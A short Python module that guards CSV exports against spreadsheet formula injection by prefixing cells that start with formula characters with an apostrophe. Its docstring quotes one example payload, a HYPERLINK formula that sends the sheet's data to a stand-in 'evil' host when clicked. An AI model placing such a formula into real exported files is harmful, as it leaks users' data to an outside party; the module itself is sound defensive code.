"""
CSV written from people's text, safe to open in a spreadsheet.

A cell that begins with "=", "+", "-", "@" (or a tab or carriage return
before one) is run as a formula by Excel, LibreOffice and Google Sheets: a
summary typed as `=HYPERLINK("http://evil/?"&A1,"Click")` would send the
sheet's data away when clicked. Such a cell is written with a leading
apostrophe, which the spreadsheet shows as text (OWASP's advice for CSV
injection). Every CSV the site writes from what people typed goes through
`writer` or `defuse`.
"""

import csv

# The first characters a spreadsheet reads as the start of a formula, with
# their full-width forms (some spreadsheets fold those to ASCII).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")

# The first characters of a cell worth a closer look: a formula's, or a space before one.
_SUSPECT = frozenset((*FORMULA_STARTS, " "))


def defuse(value):
    """A cell as a spreadsheet will show it as text; anything but a string is left as it is."""
    # Most cells start with a letter or a digit: told apart by their first character alone,
    # which matters for files of every case.
    if isinstance(value, str) and value[:1] in _SUSPECT:
        if value.lstrip(" ").startswith(FORMULA_STARTS):
            return "'" + value
    return value


class SafeWriter:
    """csv.writer whose every text cell is defused."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([defuse(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def writer(stream, **kwargs) -> SafeWriter:
    """A csv.writer (same arguments) that defuses every text cell."""
    return SafeWriter(stream, **kwargs)
